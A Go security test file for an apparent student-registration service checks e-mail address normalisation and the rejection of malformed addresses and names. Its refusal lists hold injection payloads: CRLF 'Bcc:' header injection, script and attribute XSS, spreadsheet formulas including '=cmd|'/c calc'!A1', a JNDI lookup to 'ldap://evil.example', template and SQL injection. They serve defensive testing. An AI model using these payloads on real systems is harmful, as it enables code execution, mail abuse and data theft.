package security_test

import (
	"encoding/json"
	"fmt"
	"html"
	"net/http"
	"strings"
	"testing"
	"time"

	"golang.org/x/text/unicode/norm"

	"matriq/pkg/api/restapi"
	"matriq/pkg/mailsink"
	"matriq/test/harness"
)

// addressTrials are spellings of addresses and names.
func addressTrials() []trial {
	return []trial{
		{"AddressSpellings", addressSpellings},
		{"AddressesKeptApart", addressesKeptApart},
		{"AddressesRefused", addressesRefused},
		{"NamesEverywhere", namesEverywhere},
		{"NamesRefused", namesRefused},
	}
}

// Threat: one person registers several times by spelling the address in several
// ways, or has the mail go to a spelling of her own. Promise: all spellings of an
// address are one, in the list, at the request, at the code and at the
// registration; mail goes to the one that was listed.
func addressSpellings(t *testing.T, s *system) {
	for name, spelled := range map[string]struct{ listed, mailed, asked, guessed, registered string }{
		"case":     {"Somchai.J@KU.Example.ac.th", "Somchai.J@KU.Example.ac.th", "somchai.j@ku.example.AC.TH", "SOMCHAI.J@KU.EXAMPLE.AC.TH", "sOmchai.j@ku.example.ac.th"},
		"space":    {" space@example.ac.th\r\n", "space@example.ac.th", "\tspace@example.ac.th", "space@example.ac.th\n", "\u00a0space@example.ac.th "},
		"IDN":      {"malee@ไทย.ไทย", "malee@xn--o3cw4h.xn--o3cw4h", "malee@xn--o3cw4h.xn--o3cw4h", "MALEE@ไทย.xn--o3cw4h", "malee@XN--O3CW4H.ไทย"},
		"NFD":      {"jose@caf\u00e9.ac.th", "jose@xn--caf-dma.ac.th", "jose@cafe\u0301.ac.th", "jose@CAFE\u0301.ac.th", "jose@caf\u00e9.ac.th"},
		"width":    {"wide@example.ac.th", "wide@example.ac.th", "wide@ｅｘａｍｐｌｅ．ac．th", "wide@ExamPle。ac.th", "wide@example.ac.th"},
		"plus tag": {"kanya+Exam@example.ac.th", "kanya+Exam@example.ac.th", "Kanya+exam@example.ac.th", "kanya+EXAM@example.ac.th", "kanya+exam@EXAMPLE.ac.th"},
		"signs":    {"!#$%&'*/=?^_`{|}~@example.ac.th", "!#$%&'*/=?^_`{|}~@example.ac.th", "!#$%&'*/=?^_`{|}~@example.ac.TH", "!#$%&'*/=?^_`{|}~@example.ac.th", "!#$%&'*/=?^_`{|}~@Example.ac.th"},
	} {
		c := s.client()
		var report restapi.ImportReply
		c.PostJSON(t, c.OTP+restapi.PathImport, restapi.ImportRequest{
			Emails: []string{spelled.listed, spelled.asked, spelled.guessed, spelled.registered},
		}).Into(t, &report)
		if report.Added != 1 || report.Present != 3 {
			t.Errorf("%s: four spellings are imported as %+v", name, report)
		}
		code := s.Code(t, spelled.mailed, c.mustAsk(t, spelled.asked).Ref)
		if !c.guess(t, spelled.guessed, code) {
			t.Errorf("%s: the code is not accepted from %q", name, spelled.guessed)
			continue
		}
		id := c.RegisterStudent(t, "Spelled", "Well", spelled.registered)
		s.WaitMail(t, "the confirmation to "+spelled.mailed, func(m mailsink.Message) bool {
			return m.To == spelled.mailed && strings.Contains(m.Text, harness.ID(id))
		})
		for _, m := range s.Mail.Messages("") {
			if strings.EqualFold(m.To, spelled.mailed) && m.To != spelled.mailed {
				t.Errorf("%s: a mail went to %q", name, m.To)
			}
		}
	}
}

// Threat: an address that merely looks like a listed one, or that another program
// takes for it, gets the listed one's code. Promise: it is another address, which
// is not on the list, or none at all; no mail goes there, nor to the listed one.
func addressesKeptApart(t *testing.T, s *system) {
	listed := s.listed(t)
	local, domain, _ := strings.Cut(listed, "@")
	others := []string{
		local + "+tag@" + domain, strings.Replace(local, "r", "r.", 1) + "@" + domain, local + "@x." + domain, local + "@" + domain + ".evil.example",
		local + "@example.co.th", "1" + listed, local + "-@" + domain, "'" + listed,
		// A cyrillic а and х in the domain.
		local + "@ex\u0430mple.ac.th", local + "@e\u0445ample.ac.th",
	}
	for _, other := range others {
		c := s.client()
		c.mustAsk(t, other)
		if c.guess(t, listed, "000000") {
			t.Errorf("after a code for %q, %q is proved", other, listed)
		}
	}
	s.nothingWaits(t)
	for _, m := range s.Mail.Messages("") {
		if strings.Contains(m.To, local) {
			t.Errorf("a mail went to %q", m.To)
		}
	}
}

// nothingWaits waits until the mail worker has dealt with every code.
func (s *system) nothingWaits(t *testing.T) {
	t.Helper()
	eventually(t, "no code waits to be mailed", time.Minute, func() bool {
		return s.waiting(t, codeQueues()) == 0 && s.counter(t, "email", "matriq_rpc_handling") == 0
	})
}

// noAddresses are none, each for a reason of its own.
func noAddresses(listed string) map[string]string {
	local, domain, _ := strings.Cut(listed, "@")
	list := map[string]string{
		"quotes": `"` + local + `"@` + domain, "quoted space": `"a b"@` + domain, "display name": "Somchai <" + listed + ">",
		"angle brackets": "<" + listed + ">", "comment": local + "(x)@" + domain, "literal": local + "@[127.0.0.1]", "IPv4": local + "@127.0.0.1",
		"two": listed + "," + "b@" + domain, "two by semicolon": listed + ";b@" + domain, "two @": local + "@b@" + domain, "route": "@evil.example:" + listed,
		"percent": local + "@" + domain + "%evil.example", "kelvin sign": "\u212a" + listed, "long s": "\u017f" + listed, "cyrillic": "\u0430" + listed,
		"Thai": "สมชาย@" + domain, "NFD Thai": norm.NFD.String("น้ำ") + "@" + domain, "accent": "jos\u00e9@" + domain,
		"HTML": "<script>alert(1)</script>@" + domain, "attribute": `a"onfocus="alert(1)@` + domain, "image": "<img/src=x>" + listed,
		"template": "{{.}}\t@" + domain, "formula": "=cmd|'/c calc'!A1", "URL": "https://evil.example/?" + listed,
		"bidi": "a\u202e" + listed, "isolate": "\u2066" + listed, "zero width": "a\u200b" + listed, "line separator": "a\u2028" + listed,
		"byte order mark": "\ufeff" + listed, "nul": "a\x00" + listed, "delete": "a\x7f" + listed, "one label": local + "@localhost",
		"underscore": local + "@ex_ample.ac.th", "root dot": listed + ".", "too long": strings.Repeat("a", 65) + "@" + domain, "nothing": "", "space": " \t",
	}
	for i, end := range []string{
		"\r\n", "\n", "\r", "\r\n ", "\n\t", "\u0085", "\u2028", "\u2029", "\v", "\f", "%0d%0a", "%0A", `\r\n`, "\\u000d\\u000a", "=0D=0A", "=?utf-8?q?=0d=0a?=", "&#13;&#10;", "\x00\r\n",
	} {
		list[fmt.Sprintf("line end %d", i)] = listed + end + "Bcc:b@evil.example"
	}
	return list
}

// Threat: what is no address ends a header of a mail, a line of SMTP, a cell of a
// sheet, an element of a page, or is another address to another program. Promise:
// it is refused as it is, in every call, in every list and on the pages, and never
// repaired; the page shows it as text.
func addressesRefused(t *testing.T, s *system) {
	listed := s.listed(t)
	bad := noAddresses(listed)
	before := s.Mail.Count()
	for name, typed := range bad {
		quoted, err := json.Marshal(typed)
		if err != nil {
			t.Fatal(err)
		}
		for _, call := range s.calls() {
			body := strings.Replace(call.body(`"123456"`), `"email":"123456"`, `"email":`+string(quoted), 1)
			wantProblem(t, call.url+" with "+name, post(t, s, call.url, body, true, nil), http.StatusUnprocessableEntity, "bad_email")
		}
		page := s.person(t, "en").Open(t, "/").Submit(t, map[string]string{"email": typed})
		page.Has(t, "/start", "This is not a complete e-mail address")
		wantShownAsText(t, page, "email", typed)
	}
	var rows []string
	for _, typed := range bad {
		if strings.TrimSpace(typed) != "" {
			rows = append(rows, typed)
		}
	}
	var report restapi.ImportReply
	c := s.client()
	c.PostJSON(t, c.OTP+restapi.PathImport, restapi.ImportRequest{Emails: rows}).Into(t, &report)
	if report.Added != 0 || report.Present != 0 || len(report.Rejected) != len(rows) {
		t.Errorf("of %d bad rows %d are added, %d were there, %d are rejected", len(rows), report.Added, report.Present, len(report.Rejected))
	}
	s.nothingWaits(t)
	for _, m := range s.Mail.Messages("") {
		if m.ID > before && (m.To == listed || strings.Contains(m.To, "evil") || strings.Contains(m.To, "b@")) {
			t.Errorf("a mail went to %q", m.To)
		}
	}
}

// wantShownAsText fails the test unless the field shows what was typed, and
// nothing of it became a part of the page.
func wantShownAsText(t *testing.T, page *harness.Page, field, typed string) {
	t.Helper()
	wantNothingInline(t, page)
	if strings.Contains(page.Body, "<img") {
		t.Errorf("%q made an image", typed)
	}
	// What a form cannot carry, or what surrounds it, is not the test's.
	shown := strings.TrimSpace(typed)
	if strings.ContainsAny(shown, "\x00\r\n") || shown == "" {
		return
	}
	if got := page.Value(field); got != shown {
		t.Errorf("the field shows %q instead of %q", got, shown)
	}
}

// Threat: people whose names are not plain ASCII are kept out, see their name
// garbled, or are two people by two spellings. Promise: letters of any script
// with their marks are taken, are stored in normal form C, and are shown as they
// were typed on the page and in the mail.
func namesEverywhere(t *testing.T, s *system) {
	for _, name := range [][2]string{
		{"สมชาย", "น้ำฝน"},
		{norm.NFD.String("น้ำ"), "ณ อยุธยา"},
		{"Jose\u0301", "Nguye\u0302\u0303n"},
		{"O'Brien", "O’Brien"},
		{"ม.ร.ว.คึกฤทธิ์", "Smith-Jones"},
		{"محمد", "李"},
		{strings.Repeat("ก", 100), strings.Repeat("W", 100)},
		{"-Minus", "'Quote"},
	} {
		first, last := norm.NFC.String(name[0]), norm.NFC.String(name[1])
		email := s.listed(t)
		page := s.proves(t, s.person(t, "en"), email).Submit(t, names(name[0], name[1]))
		if page.Has(t, "/done"); !strings.Contains(norm.NFC.String(page.Text()), first+" "+last) {
			t.Errorf("the page does not show %s %s:\n%s", first, last, page.Text())
		}
		mail := s.WaitMail(t, "the confirmation to "+email, func(m mailsink.Message) bool {
			return m.To == email && strings.Contains(m.Subject, "registered")
		})
		if !strings.Contains(mail.Text, first+" "+last) || !strings.Contains(html.UnescapeString(mail.HTML), first+" "+last) {
			t.Errorf("the mail to %s %s says\n%s\n%s", first, last, mail.Text, mail.HTML)
		}
		if strings.Contains(mail.Subject, first) || strings.ContainsAny(first, "'") && strings.Contains(mail.HTML, first) {
			t.Errorf("the mail to %s has the name in its subject or unescaped: %s\n%s", first, mail.Subject, mail.HTML)
		}
	}
}

// noNames are none, each for a reason of its own.
func noNames() map[string]string {
	list := map[string]string{
		"nothing": "", "a space": " ", "signs": "-.'", "a mark": "\u0e49", "101 letters": strings.Repeat("a", 101), "a digit": "Anna2", "a Thai digit": "สมชาย๒",
		"HTML": "<b>Anna</b>", "script": "<script>alert(1)</script>", "attribute": `Anna" onfocus="alert(1)`, "entity": "&lt;Anna&gt;",
		"template": "{{.StudentID}}", "template by dollar": "${7*7}", "template by hash": "#{7*7}", "JNDI": "${jndi:ldap://evil.example/a}",
		"formula": "=HYPERLINK(A)", "formula by plus": "+SUM(A)", "formula by at": "@SUM(A)", "formula behind a tab": "\t=A", "SQL": "Robert'); DROP TABLE students;--",
		"URL": "https://evil.example", "www": "www.evil", "domain": "evil.com", "Thai domain": "ลงทะเบียน.ไทย", "domain in a sentence": "see evil.example now", "address": "a@evil.example",
		"bidi": "An\u202ena", "isolate": "\u2066Anna\u2069", "zero width": "An\u200bna", "byte order mark": "\ufeffAnna", "soft hyphen": "An\u00adna",
		"filler": "\u3164", "half-width filler": "A\uffa0", "joiner": "A\u034fnna", "variation": "A\ufe0fnna", "emoji": "Anna\U0001f393", "private": "A\ue000", "nul": "An\x00na",
	}
	for i, end := range []string{"\r\n", "\n", "\r", "\r\n ", "\u0085", "\u2028", "\u2029", "\v", "\f", "%0d%0a", "=0D=0A", "=?utf-8?q?=0a?="} {
		list[fmt.Sprintf("line end %d", i)] = "Anna" + end + "Bcc: b"
	}
	return list
}

// Threat: a name that is a program to whatever shows it: a page, a mail, a sheet,
// a terminal. Promise: it is refused, at the call and on the page, in either
// field, and the page shows it as text.
func namesRefused(t *testing.T, s *system) {
	email := s.listed(t)
	c := s.client()
	if !c.guess(t, email, s.codeFor(t, c, email)) {
		t.Fatal("the code is not accepted")
	}
	other := s.listed(t)
	page := s.proves(t, s.person(t, "en"), other)
	for name, typed := range noNames() {
		for reason, req := range map[string]restapi.RegisterRequest{
			"bad_firstname": {Firstname: typed, Lastname: "Jaidee", Email: email}, "bad_lastname": {Firstname: "Anna", Lastname: typed, Email: email},
		} {
			wantProblem(t, "a name with "+name, c.PostJSON(t, c.RegisterURL(), req), http.StatusUnprocessableEntity, reason)
		}
		for field, text := range map[string]string{"firstname": "Enter your first name", "lastname": "Enter your last name"} {
			typedNames := names("Anna", "Jaidee")
			typedNames[field] = typed
			if surrounded := strings.TrimSpace(typed); surrounded != typed && surrounded != "" {
				continue // a form's spaces around a name are not the name's
			}
			page = page.Submit(t, typedNames)
			page.Has(t, "/reg", text)
			wantShownAsText(t, page, field, typed)
		}
	}
	for _, email := range []string{email, other} {
		if n := s.students(t, email); n != 0 {
			t.Errorf("%s is registered", email)
		}
	}
	page.Submit(t, names("Anna", "Jaidee")).Has(t, "/done", "Anna Jaidee")
}
